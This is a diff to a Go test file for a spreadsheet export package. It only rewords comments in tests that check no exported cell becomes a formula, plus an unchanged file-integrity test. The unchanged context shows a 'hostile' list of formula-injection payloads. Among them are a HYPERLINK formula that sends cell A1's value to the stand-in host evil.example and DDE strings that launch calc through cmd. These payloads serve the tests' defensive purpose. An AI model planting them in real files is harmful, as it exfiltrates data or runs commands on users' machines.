@@ -13,7 +13,7 @@ import (
 	"omgevingsloket-id/pkg/sheet"
 )
 
-// hostile are cells that spreadsheets took for more than text.
+// hostile holds cells that spreadsheet programs have run.
 var hostile = []string{
 	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\x00=1", "  =1", "\"=1", "'=1", "“=1", "\ufeff=1", "\u200b=1", "＝1", "＋1", "－1", "＠SUM", "﹦1", "⁼1",
 	`=HYPERLINK("http://evil.example?"&A1,"ok")`, `=cmd|' /C calc'!A0`, `cmd|'/C calc'!A0`, `DDE("cmd";"/C calc";"x")`, `@SUM(1+1)*cmd|' /C calc'!A0`,
@@ -23,9 +23,8 @@ var hostile = []string{
 
 var dynamic = regexp.MustCompile(`\|.*!`)
 
-// dangerous is another way to ask, on purpose: what a reader sees when it has
-// thrown away everything that it may throw away. Where the ' stands first, the
-// rest is text.
+// dangerous is an independent implementation: it looks at what is left after
+// everything that a program may skip. A cell with ' first is text.
 func dangerous(cell string) bool {
 	if strings.HasPrefix(cell, "'") {
 		return false
@@ -84,8 +83,8 @@ func harmless(t *testing.T, separator sheet.Separator, rows [][]string) {
 			}
 		}
 	}
-	// Read with the other separator, and line by line by one who knows no
-	// quotes, it is nonsense, and still no formula.
+	// Read with the other separator, or line by line without regard to quotes,
+	// it has no formula either.
 	for _, other := range ",;\t" {
 		for _, row := range read(t, b, other, true) {
 			for _, cell := range row {
@@ -104,7 +103,7 @@ func harmless(t *testing.T, separator sheet.Separator, rows [][]string) {
 	}
 }
 
-// OF-11: nothing that somebody wrote is a formula in a spreadsheet.
+// OF-11: no text is a formula in a spreadsheet program.
 func TestOF11_NoFormula(t *testing.T) {
 	t.Parallel()
 	for _, separator := range []sheet.Separator{sheet.Comma, sheet.Semicolon} {
@@ -118,7 +117,7 @@ func TestOF11_NoFormula(t *testing.T) {
 	}
 }
 
-// FuzzOF11_NoFormula looks for a text that gets through.
+// FuzzOF11_NoFormula looks for a text that becomes a formula.
 func FuzzOF11_NoFormula(f *testing.F) {
 	for _, s := range hostile {
 		f.Add(s, s)
@@ -142,7 +141,7 @@ func TestOrdinaryTextStaysAsItIs(t *testing.T) {
 	}
 }
 
-// OF-26: a file that is cut, longer, or changed in any byte is found out.
+// OF-26: a file that is truncated, longer or changed in any byte is ErrBroken.
 func TestOF26_WholeOrFound(t *testing.T) {
 	t.Parallel()
 	for _, separator := range []sheet.Separator{sheet.Comma, sheet.Semicolon} {
